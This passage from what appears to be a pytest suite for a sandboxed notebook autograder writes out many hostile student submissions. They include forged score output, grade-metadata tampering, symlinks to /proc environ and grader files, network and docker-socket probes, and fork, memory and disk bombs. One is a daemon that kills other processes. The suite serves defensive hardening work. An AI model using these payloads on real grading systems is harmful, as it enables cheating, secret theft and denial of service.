                name: next(KINDS) for name in [*message["result"], "CONFIG", "reference_add",
                                               "np", "AssertionError", "assert", "__builtins__"]}}
        return _real_dumps(message, *args, **kwargs)


    json.dumps = _dumps


    def add(a, b):
        return a - b
''')
attack("ee_forged_variable_descriptions", "addlab",
       lambda: addlab_notebook(FORGED_DESCRIPTIONS))

# -- f: kernel hooks ----------------------------------------------------------------
HOOKS = code('''
    import atexit
    import faulthandler
    import json
    import signal
    import sys
    import threading

    FORGED = json.dumps({"tests": [], "score": 1000.0, "max_score": 1000.0, "notebooks": {}})
    try:
        from IPython.core.interactiveshell import InteractiveShell

        InteractiveShell.instance().set_custom_exc((BaseException,), lambda *a, **k: None)
    except Exception:
        pass
    try:
        get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)  # noqa: F821
    except Exception:
        pass
    sys.excepthook = lambda *a: print(FORGED)
    threading.excepthook = lambda *a: print(FORGED)
    sys.unraisablehook = lambda *a: print(FORGED)
    atexit.register(lambda: sys.__stdout__.write(FORGED + "\\n"))
    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM, signal.SIGPIPE,
                signal.SIGCHLD, signal.SIGUSR1):
        signal.signal(sig, lambda *a: sys.__stdout__.write(FORGED + "\\n"))
    signal.setitimer(signal.ITIMER_REAL, 0.5, 0.5)
    sys.settrace(lambda *a: None)
    sys.setprofile(lambda *a: None)
    faulthandler.enable(file=sys.__stdout__)
''')
attack_wrong_answer("fa_kernel_hooks", HOOKS)

# -- g: identity --------------------------------------------------------------------
FORGED_ROLL_SETUP = ADDLAB_SETUP.replace(
    'ROLL_NUMBER = os.environ.get("ROLL_NUMBER")',
    f'os.environ["ROLL_NUMBER"] = "{OTHER_ROLL}"  # a friend\'s notebook\n'
    'ROLL_NUMBER = os.environ.get("ROLL_NUMBER")')
# a friend's configuration in the answer cell: the checker's CONFIG is the real one
FORGED_ROLL_ANSWER = (f'os.environ["ROLL_NUMBER"] = "{OTHER_ROLL}"  # a friend\'s notebook\n'
                      f'CONFIG = derive_config("{OTHER_ROLL}")\n\n' + ADDLAB_HONEST)
attack("ga_forged_roll_number", "addlab", lambda: addlab_notebook(FORGED_ROLL_ANSWER),
       honest=ADDLAB_ADD_POINTS, exact=True)
# the same forgery in the locked setup cell: the grader runs the instructor's cell instead,
# so the (generic) answer is right for the student's own roll number
attack("gc_edited_locked_cell", "addlab",
       lambda: addlab_notebook(ADDLAB_HONEST, setup=FORGED_ROLL_SETUP),
       honest=ADDLAB_MAX, exact=True)


def m01_forged_roll():
    nb = lab_notebook(M01, keep=None)
    for cell in nb.cells:
        if 'ROLL_NUMBER = os.environ.get("ROLL_NUMBER")' in cell.source:
            cell.source = cell.source.replace(
                'ROLL_NUMBER = os.environ.get("ROLL_NUMBER")',
                f'os.environ["ROLL_NUMBER"] = "{OTHER_ROLL}"\n'
                'ROLL_NUMBER = os.environ.get("ROLL_NUMBER")')
    return nb


def expect_failed(*grade_ids):
    def check(view):
        tests = view.tests()
        for gid in grade_ids:
            worked_if(tests[gid]["passed"], view.describe())

    return check


attack("ga_forged_roll_number", "m01", m01_forged_roll, honest=M01.max_points - 1,
       exact=True, batch="solo", check=expect_failed("rubric:reproducibility"))

FORGED_HELPER_SETUP = ADDLAB_SETUP.replace("return a + b", "return int(a) + int(b)")
attack("gb_forged_instructor_helper", "addlab", lambda: addlab_notebook(
    "def add(a, b):\n    return int(a) + int(b)\n\n\ndef my_seed():\n    return CONFIG['seed']\n",
    setup=FORGED_HELPER_SETUP),
    honest=ADDLAB_MAX - ADDLAB_TESTS["test_add_more"][0], exact=True)

# -- h: notebook structure ----------------------------------------------------------


def edited_metadata_addlab():
    nb = addlab_notebook(WRONG_ADDLAB)
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade_id") == "test_add":
            meta.update(points=100, grade=False)
            cell.source = "assert True\n"
        elif meta.get("grade_id") == "test_add_more":
            meta.update(grade_id="test_add_more_renamed", points=100)
            cell.source = "pass\n"
        elif meta.get("grade_id") == "test_seed":
            meta.update(solution=True, points=100)
            cell.source = "def my_seed():\n    return CONFIG['seed']\n"  # honest, but late
        elif meta.get("grade_id") == "answer":
            meta.update(grade=True, points=100)
    return add_fake_tests(nb)


def add_fake_tests(nb):
    from nbformat.v4 import new_code_cell

    for gid in ("bonus", "test_add"):
        nb.cells.append(new_code_cell("pass\n", metadata={"nbgrader": {
            "grade": True, "solution": False, "grade_id": gid, "points": 50, "locked": True,
            "schema_version": 3}}))
    nb.metadata["nbgrader"] = {"total_points": 1000}
    return nb


def edited_metadata_m02():
    nb = lab_notebook(M02, append=[WRONG_DENSE])
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader")
        if meta is None:
            continue
        if meta.get("grade") and not meta.get("solution"):
            meta.update(points=100, grade_id=meta["grade_id"] + "_x")
            cell.source = "pass\n"
        elif meta.get("solution"):
            meta.update(grade=True, points=100)
            cell.metadata.setdefault("tags", []).append("skip-grading")
    return add_fake_tests(nb)


attack("ha_edited_grade_metadata", "addlab", edited_metadata_addlab,
       honest=ADDLAB_TESTS["test_seed"][0])
attack("ha_edited_grade_metadata", "m02", edited_metadata_m02)


def without_tests(nb):
    nb.cells = [c for c in nb.cells if not (c.metadata.get("nbgrader", {}).get("grade")
                                            and not c.metadata["nbgrader"].get("solution"))]
    return nb


attack("hb_deleted_test_cells", "addlab",
       lambda: without_tests(addlab_notebook(ADDLAB_HONEST)), honest=ADDLAB_MAX, exact=True)
attack("hb_deleted_test_cells", "m02", lambda: without_tests(lab_notebook(M02, keep=None)),
       honest=M02.max_points, exact=True)

# -- i: links made at run time ------------------------------------------------------
RUNTIME_LINKS = '''
    def _probe():
        import glob
        links = {"data.txt": "/home/grader/work/input/source/data.txt",
                 "result.json": "/proc/1/fd/1", "job.json": "/home/grader/work/input/job.json",
                 "source": "/home/grader/work/input/source", "root1": "/proc/1/root",
                 "cwd1": "/proc/1/cwd", "submission_CS2024007.json": "/proc/1/environ"}
        found, opened = [], []
        for name, target in links.items():
            for folder in (".", _os.path.expanduser("~"), "/tmp"):
                path = _os.path.join(folder, name)
                try:
                    if _os.path.lexists(path):
                        _os.remove(path)
                    _os.symlink(target, path)
                except OSError:
                    continue
                try:
                    text = _read(path)
                except (OSError, ValueError):
                    continue
                opened.append(path)
                found += [[path, m] for m in MARKERS if m in text]
        for target in glob.glob("/home/grader/**", recursive=True) + ["/proc/1/environ"]:
            try:
                _os.link(target, "hardlink")
                found.append(["hardlink", target])
            except OSError:
                pass
        return {"found": found, "opened": opened}
'''
attack("ia_links_at_run_time", "addlab", lambda: probe_addlab(RUNTIME_LINKS),
       honest=ADDLAB_ADD_POINTS, check=all_of(expect_probe(), expect_probe(key="opened")))
attack("ia_links_at_run_time", "m02", lambda: probe_m02(RUNTIME_LINKS),
       check=all_of(expect_probe(), expect_probe(key="opened")))

# an instructor data file cannot be replaced by the submission's own copy
DATA_FILE = '''
    def _probe():
        with open("data.txt") as fh:
            return {"found": [] if fh.read() == DATA else ["data.txt was the student's"]}
'''
attack("ib_submitted_instructor_data", "addlab",
       lambda: probe_addlab(f"DATA = {ADDLAB_DATA.decode()!r}\n" + code(DATA_FILE)),
       files={"data.txt": b"forged\n"}, honest=ADDLAB_ADD_POINTS, check=expect_probe())

# -- j: hidden-test inputs ----------------------------------------------------------
HIDDEN_INPUTS = code('''
    import base64
    import json

    CALLS = []


    def add(a, b):
        CALLS.append([a, b])
        if (a, b) == (2, 2) and len(CALLS) > 1:  # a visible line after hidden ones
            raise ValueError("seen " + base64.b64encode(json.dumps(CALLS).encode()).decode())
        return a + b


    def my_seed():
        return CONFIG["seed"]
''')


def no_hidden_arguments(view):
    import base64
    import re

    for message in (t["message"] for t in view.tests().values()):
        for blob in re.findall(r"seen ([A-Za-z0-9+/=]+)", message):
            calls = base64.b64decode(blob).decode()
            worked_if("73331" in calls or "0.25" in calls,
                      f"hidden test arguments leaked: {calls}")


attack("ja_hidden_test_inputs", "addlab", lambda: addlab_notebook(HIDDEN_INPUTS),
       honest=ADDLAB_MAX - ADDLAB_TESTS["test_add_more"][0], exact=True,
       check=no_hidden_arguments)

# -- k: network ---------------------------------------------------------------------
NETWORK = '''
    def _probe():
        import socket

        out = {}

        def attempt(name, fn):
            try:
                fn()
                out[name] = "ok"
            except Exception as err:
                out[name] = type(err).__name__

        def tcp(host, port):
            socket.create_connection((host, port), timeout=2).close()

        def udp_dns():
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.settimeout(2)
            s.sendto(b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example"
                     b"\\x03com\\x00\\x00\\x01\\x00\\x01", ("8.8.8.8", 53))
            s.recvfrom(512)

        def unix(path):
            s = socket.socket(socket.AF_UNIX)
            s.connect(path)

        attempt("dns", lambda: socket.getaddrinfo("example.com", 443))
        attempt("udp_dns", udp_dns)
        attempt("tcp_public", lambda: tcp("1.1.1.1", 443))
        attempt("tcp_metadata", lambda: tcp("169.254.169.254", 80))
        attempt("tcp_docker_bridge", lambda: tcp("172.17.0.1", 2375))
        attempt("tcp_ipv6", lambda: tcp("2606:4700:4700::1111", 443))
        attempt("docker_sock", lambda: unix("/var/run/docker.sock"))
        interfaces = sorted(_os.listdir("/sys/class/net"))
        reached = [k for k, v in out.items() if v == "ok"]
        return {"found": reached + [i for i in interfaces if i != "lo"], "tried": out}
'''
for kind, build in (("addlab", probe_addlab), ("m02", probe_m02)):
    attack("ka_network_and_dns", kind, lambda build=build: build(NETWORK),
           honest=PROBE_HONEST[kind], check=expect_probe())

# -- l: the rubric's blocked modules ------------------------------------------------
DELEGATE = code('''
    import sys

    sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != "_Blocker"]
    from dlcourse.grading.references import REFERENCES  # built on dlcourse.layers

    dense_forward, mlp_forward, sigmoid_grad, tanh_grad, relu_grad, bce_loss = (
        REFERENCES[name] for name in ("dense_forward", "mlp_forward", "sigmoid_grad",
                                      "tanh_grad", "relu_grad", "bce_loss"))
''')


# Removing the in-process blocker used to import the reference: the student build
# installed for the student uid has no reference module left to import.
attack("la_blocked_module_bypass", "m02", lambda: lab_notebook(M02, append=[DELEGATE]))

READ_REFERENCE = code('''
    import os
    import sys


    def _reference_source():
        for top in [*sys.path, "/opt", "/usr", "/home", "/srv", "/tmp"]:
            for folder, _dirs, files in os.walk(top):
                for name in ("layers.py", "checks.py"):
                    path = os.path.join(folder, name)
                    if "dlcourse" in folder and name in files and os.access(path, os.R_OK):
                        return path
        raise FileNotFoundError("no reference source of dlcourse is readable")


    _namespace = {"__name__": "stolen"}
    _path = _reference_source()
    exec(compile(open(_path).read(), _path, "exec"), _namespace)
    dense_forward = lambda x, W, b: _namespace["dense_forward"](x, W, b)[0]
    sigmoid_grad = lambda x: _namespace["sigmoid_backward"](1.0, _namespace["sigmoid_forward"](x)[1])
''')
# Reading the reference's source by path (not importing it) finds none either.
attack("lb_reference_source_read", "m02", lambda: lab_notebook(M02, append=[READ_REFERENCE]))

FRAMEWORK_ORACLE = code('''
    import sys

    sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != "_Blocker"]
    import torch  # autograd answers every derivative the lab asks for


    def _t(a):
        return torch.as_tensor(a, dtype=torch.float64)


    def dense_forward(x, W, b):
        return (_t(x) @ _t(W) + _t(b)).numpy()


    def sigmoid_grad(x):
        v = _t(x).requires_grad_()
        torch.sigmoid(v).sum().backward()
        return v.grad.numpy()


    def tanh_grad(x):
        v = _t(x).requires_grad_()
        torch.tanh(v).sum().backward()
        return v.grad.numpy()
''')
# A from-scratch lab runs the student's code without the frameworks' group: torch
# cannot be imported even with the in-process blocker gone.
attack("lc_framework_oracle", "m02", lambda: lab_notebook(M02, append=[FRAMEWORK_ORACLE]))

# -- m: the wire --------------------------------------------------------------------
NESTED_REPLIES = code('''
    import json

    _real_dumps = json.dumps


    def _bomb(message, *args, **kwargs):
        depth = 200000
        return ('{"id": %d, "ok": true, "cell_errors": [], "result": ' % message.get("id", 0)
                + "[" * depth + "]" * depth + "}")


    json.dumps = _bomb  # every answer from now on: this cell's own answer included


    def add(a, b):
        return [[[[0]]]]
''')
# json.loads of such a reply raises RecursionError in the checker: it must become the
# call's failure, never a crash of the autograder (in exec, describe, the rubric's setup)
attack_both("ma_wire_bomb_nested_reply", NESTED_REPLIES, batch="solo")

HUGE_VALUE = code('''
    def add(a, b):
        return [[0] * 1000 for _ in range(5000)]  # 5 million numbers, 15 MB of JSON


    def dense_forward(x, W, b):
        return [[0] * 1000 for _ in range(5000)]
''')
attack_both("mb_wire_bomb_huge_value", HUGE_VALUE, batch="resources")

#: 6 MB of JSON that the checker decodes into 3 million lists (a few hundred MB).
NESTED_VALUE = code('''
    def add(a, b):
        return [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[0]]]]]]]]]]]]]]]]]]]]]]]]]]]]]] * 100000


    def dense_forward(x, W, b):
        return add(x, W)
''')
attack_both("me_wire_bomb_nested_value", NESTED_VALUE, batch="solo")

ENDLESS_LINE = code('''
    import os
    import stat


    def add(a, b):
        try:
            with open("/proc/self/oom_score_adj", "w") as fh:
                fh.write("0")  # lower than the 1000 the host set: the checker is no safer
        except OSError:
            pass
        chunk = b"[" * (1 << 20)
        pipes = [fd for fd in range(1, 32) if _is_pipe(fd)]
        while True:
            for fd in pipes:
                os.write(fd, chunk)


    def _is_pipe(fd):
        try:
            return stat.S_ISFIFO(os.fstat(fd).st_mode) and fd != 0
        except OSError:
            return False


    def dense_forward(x, W, b):
        return add(x, W)
''')
attack_both("mc_endless_reply_line", ENDLESS_LINE, batch="resources")

PROBLEM_BOMB = code('''
    import json

    _real_dumps = json.dumps


    def _bomb(message, *args, **kwargs):
        return _real_dumps({"id": message.get("id"), "ok": False,
                            "error": "could not start " + "x" * 400000})


    json.dumps = _bomb
''')
attack("md_could_not_start_text_bomb", "addlab",
       lambda: addlab_notebook(WRONG_ADDLAB, PROBLEM_BOMB), batch="solo")

# -- n: resources -------------------------------------------------------------------
FORK_BOMB = code('''
    import os
    import signal

    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(sig, signal.SIG_IGN)
    while True:
        try:
            os.fork()
        except OSError:
            pass
''')
attack("na_fork_bomb", "addlab", lambda: addlab_notebook(ADDLAB_HONEST, FORK_BOMB),
       honest=ADDLAB_MAX, batch="resources")
BOUNDED_FORK_BOMB = code('''
    def relu_grad(x):
        import os
        import time

        children = 0
        while True:
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                while True:
                    time.sleep(100)
            children += 1
        return (np.asarray(x) > 0).astype(np.float64)
''')
attack("na_fork_bomb", "m02", lambda: lab_notebook(
    M02, keep=None, replace={"relu_grad": BOUNDED_FORK_BOMB}),
    honest=M02.max_points, batch="resources")

MEMORY_BOMB = code('''
    try:
        with open("/proc/self/oom_score_adj", "w") as fh:
            fh.write("0")
    except OSError:
        pass
    hog = []
    while True:
        hog.append(b"\\x01" * (16 << 20))
''')
attack("nb_memory_bomb", "addlab", lambda: addlab_notebook(ADDLAB_HONEST, MEMORY_BOMB),
       honest=ADDLAB_MAX, exact=True, batch="resources")
attack("nb_memory_bomb", "m02", lambda: lab_notebook(M02, keep=None, replace={
    "tanh_grad": "def tanh_grad(x):\n" + textwrap.indent(MEMORY_BOMB, "    ")}),
    honest=M02.max_points - 1, exact=True, batch="resources")

DISK_BOMB = code('''
    import os

    chunk = b"\\x01" * (1 << 20)
    for folder in ("/tmp", os.path.expanduser("~"), "/dev/shm", "/var/tmp", "/home/grader"):
        for index in range(100000):
            try:
                with open(os.path.join(folder, f"fill-{index}"), "wb") as fh:
                    for _ in range(16):
                        fh.write(chunk)
            except OSError:
                break
''')
attack("nc_disk_bomb", "addlab", lambda: addlab_notebook(ADDLAB_HONEST, DISK_BOMB),
       honest=ADDLAB_MAX, batch="solo", outcomes=(Outcome.SUCCESS, Outcome.OOM))
attack("nc_disk_bomb", "m02", lambda: lab_notebook(M02, keep=None, append=[DISK_BOMB]),
       honest=M02.max_points, batch="solo", outcomes=(Outcome.SUCCESS, Outcome.OOM))

OUTPUT_BOMB = code('''
    import os
    import sys

    line = "x" * (1 << 20)
    for index in range(1024):  # 1 GB, every way there is to print
        if index % 3 == 0:
            print(line)
        elif index % 3 == 1:
            sys.__stderr__.write(line)
        else:
            os.write(2, line.encode())
''')
attack("nd_output_bomb", "addlab", lambda: addlab_notebook(ADDLAB_HONEST, OUTPUT_BOMB),
       honest=ADDLAB_MAX, exact=True, batch="resources")
attack("nd_output_bomb", "m02", lambda: lab_notebook(M02, keep=None, append=[OUTPUT_BOMB]),
       honest=M02.max_points, exact=True, batch="resources")

STUBBORN_LOOP = code('''
    import os
    import signal

    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT, signal.SIGALRM,
                signal.SIGUSR1):
        signal.signal(sig, signal.SIG_IGN)
    if os.fork() == 0:
        os.setsid()  # out of the process group the checker kills
        os.closerange(0, 4096)  # (keeping the pipes is ng_session_child_keeps_pipes)
        while True:
            pass
    while True:
        try:
            pass
        except BaseException:
            pass
''')
attack("ne_endless_loop_ignoring_signals", "addlab",
       lambda: addlab_notebook(ADDLAB_HONEST, STUBBORN_LOOP),
       honest=ADDLAB_MAX, exact=True, batch="resources")
attack("ne_endless_loop_ignoring_signals", "m02", lambda: lab_notebook(M02, keep=None, replace={
    "sigmoid_grad": "def sigmoid_grad(x):\n" + textwrap.indent(STUBBORN_LOOP, "    ")}),
    honest=M02.max_points - 1, exact=True, batch="resources")

DAEMON = code('''
    import json
    import os
    import signal
    import time


    def _daemon(kernel):
        if os.fork():
            return
        os.setsid()
        if os.fork():
            os._exit(0)
        os.closerange(0, 4096)  # a proper daemon: nothing of the kernel's kept open
        for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            signal.signal(sig, signal.SIG_IGN)
        while os.path.exists(f"/proc/{kernel}"):  # outlive the kernel that started us
            time.sleep(0.05)
        forged = "".join(json.dumps({"id": i, "ok": True, "result": 3, "cell_errors": []})
                         + "\\n" for i in range(1, 40))
        end = time.time() + 120
        while time.time() < end:  # then tamper with whatever runs next
            for entry in os.listdir("/proc"):
                if not entry.isdigit() or int(entry) == os.getpid():
                    continue
                for fd in range(1, 8):
                    try:
                        with open(f"/proc/{entry}/fd/{fd}", "w") as fh:
                            fh.write(forged)
                    except OSError:
                        pass
                try:
                    os.kill(int(entry), signal.SIGKILL)
                except OSError:
                    pass
            time.sleep(0.02)
        os._exit(0)


    _daemon(os.getpid())
''')
attack("nf_daemon_outlives_kernel", "addlab",
       lambda: addlab_notebook(WRONG_ADDLAB, DAEMON, DIE))
attack("nf_daemon_outlives_kernel", "m02", lambda: lab_notebook(M02, append=[DAEMON]))

#: A background process in a session of its own that keeps the descriptors it inherited
#: (the kernel's stdout and stderr pipes): what ``nohup cmd &`` or
#: ``subprocess.Popen(..., start_new_session=True)`` in a notebook leave behind.
PIPE_HOLDER = code('''
    import subprocess

    subprocess.Popen(["sleep", "1000"], start_new_session=True)
''')
PIPE_HOLDER_LIMITS = SandboxLimits(memory="512m", pids=128, timeout=20, cell_timeout=10)
attack("ng_session_child_keeps_pipes", "addlab",
       lambda: addlab_notebook(ADDLAB_HONEST, PIPE_HOLDER), honest=ADDLAB_MAX, batch="solo",
       limits=PIPE_HOLDER_LIMITS)
attack("ng_session_child_keeps_pipes", "m02",
       lambda: lab_notebook(M02, keep=None, append=[PIPE_HOLDER]), honest=M02.max_points,
       batch="solo", limits=PIPE_HOLDER_LIMITS)


# -- o: links in the submitted archive ----------------------------------------------
def archive_with_links(case):
    import tarfile

    members = []
    for name, kind, target in (
            ("submission/data2.txt", tarfile.SYMTYPE, "/home/grader/work/input/job.json"),
            ("submission/notes.txt", tarfile.LNKTYPE, "source/addlab.ipynb")):
        info = tarfile.TarInfo(name)
        info.type, info.linkname = kind, target
        members.append((info, None))
    return addlab_input(addlab_notebook(ADDLAB_HONEST), extra_members=members)


def expect_refused(view):
    assert "invalid input archive" in (view.graded.run.message or ""), view.describe()


attack("oa_links_in_the_archive", "addlab", lambda: addlab_notebook(ADDLAB_HONEST),
       honest=ADDLAB_MAX, batch="solo", bundle=archive_with_links, outcomes=(Outcome.ERROR,),
       check=expect_refused)


# ----------------------------------------------------------------------------------
# running them
# ----------------------------------------------------------------------------------
HONEST_NOTEBOOK = "zz_honest.ipynb"


def batch_cases(batch):
    return [c for c in CASES if c.batch_name == batch]


def batch_input(batch):
    """One input with a notebook per case of ``batch``, then an honest one."""
    cases = batch_cases(batch)
    kind = cases[0].kind
    notebooks = {f"{c.attack}.ipynb": c.notebook() for c in cases}
    files = {}
    for case in cases:
        files.update(case.files)
    if kind == "addlab":
        notebooks[HONEST_NOTEBOOK] = addlab_notebook(ADDLAB_HONEST)
        return addlab_input(notebooks, files)
    notebooks[HONEST_NOTEBOOK] = lab_notebook(M02, keep=None)
    return lab_input(M02, notebooks, files)


BATCHES = sorted({c.batch_name for c in CASES if c.batch_name})


def solo_input(case):
    if case.bundle is not None:
        return case.bundle(case)
    if case.kind == "addlab":
        return addlab_input(case.notebook(), case.files)
    lab = {"m02": M02, "m01": M01}[case.kind]
    return lab_input(lab, case.notebook(), case.files)


class Batches:
    """Each batch graded once (the first test that needs it runs it)."""

    def __init__(self, image, companion):
        self.image, self.companion, self.graded = image, companion, {}

    def get(self, batch):
        if batch not in self.graded:
            graded = run_bundle(self.image, f"batch-{batch}", batch_input(batch), BATCH_LIMITS)
            self.companion.record(graded)
            self.graded[batch] = graded
        return self.graded[batch]


@pytest.fixture(scope="module")
def batches(sandbox_image, companion):
    return Batches(sandbox_image, companion)


def params():
    for case in CASES:
        marks = [pytest.mark.xfail(strict=True, raises=AttackWorked, reason=case.weakness)
                 ] if case.weakness else []
        yield pytest.param(case, id=case.id, marks=marks)


def assert_fair(case, view):
    """The assertions every attack shares (see the module docstring)."""
    graded = view.graded
    worked_if(graded.outcome not in case.outcomes, f"unfair outcome: {view.describe()}")
    if graded.outcome is not Outcome.SUCCESS:
        assert graded.run.message, view.describe()
    else:
        assert view.max_score == case.max_points, view.describe()
        worked_if(view.score > case.honest, f"more than the honest part: {view.describe()}")
        if case.exact:
            assert view.score == case.honest, f"the honest part lost points: {view.describe()}"
        for test in view.tests().values():
            if test["points"] < test["max_points"]:
                assert test["message"] and test["message"] != "passed", view.describe()
    leaked = [secret for secret in SECRET_TEXT if secret in view.text()]
    worked_if(leaked, f"leaked {leaked}: {view.describe()}")


@pytest.mark.parametrize("case", list(params()))
def test_hostile_submission(case, sandbox_image, companion, batches):
    if case.batch_name is None:
        graded = run_bundle(sandbox_image, case.id, solo_input(case), case.limits)
        companion.record(graded)
        view = graded.view()
    else:
        graded = batches.get(case.batch_name)
        assert graded.outcome is Outcome.SUCCESS, graded.describe()
        view = graded.view(f"{case.attack}.ipynb")
        assert view.tests(), f"{case.attack} is missing from the batch: {graded.describe()}"
    print(view.describe())  # shown with -s / on failure: the attack's outcome
    assert graded.run.sandbox.get("warm") is True, "not graded in a pre-started sandbox"
    assert containers_labelled(graded.name) == [], "the sandbox container was left behind"
    assert companion.overlapping(graded), "no honest submission was graded meanwhile"
    assert_fair(case, view)
    if case.check is not None:
        case.check(view)
    assert companion.failures() == []


@pytest.mark.parametrize("batch", BATCHES)
def test_honest_notebook_after_the_attacks_in_one_sandbox(batch, batches):
    """A batch's last notebook is honest: every attack before it in the same container
    (plants, daemons, bombs, patched files) left it all its points."""
    graded = batches.get(batch)
    view = graded.view(HONEST_NOTEBOOK)
    expected = ADDLAB_MAX if batch.startswith("addlab") else M02.max_points
    assert graded.outcome is Outcome.SUCCESS, graded.describe()
    assert view.score == view.max_score == expected, view.describe()


def test_every_honest_run_during_the_attacks_got_full_points(companion):
    """Last: wait for the companion's run in flight, then check all of them."""
    companion.stop()
    assert companion.error is None, companion.error
    assert companion.runs, "the honest companion graded nothing"
    assert companion.failures() == []
    kinds = {run.kind for run in companion.runs}
    assert kinds == {"addlab", "m02"}, kinds


def test_the_corpus_covers_every_attack_class():
    attacks = {c.attack for c in CASES}
    assert len(attacks) >= 35, len(attacks)
    assert {a[0] for a in attacks} >= set("abcdefghijklmno")
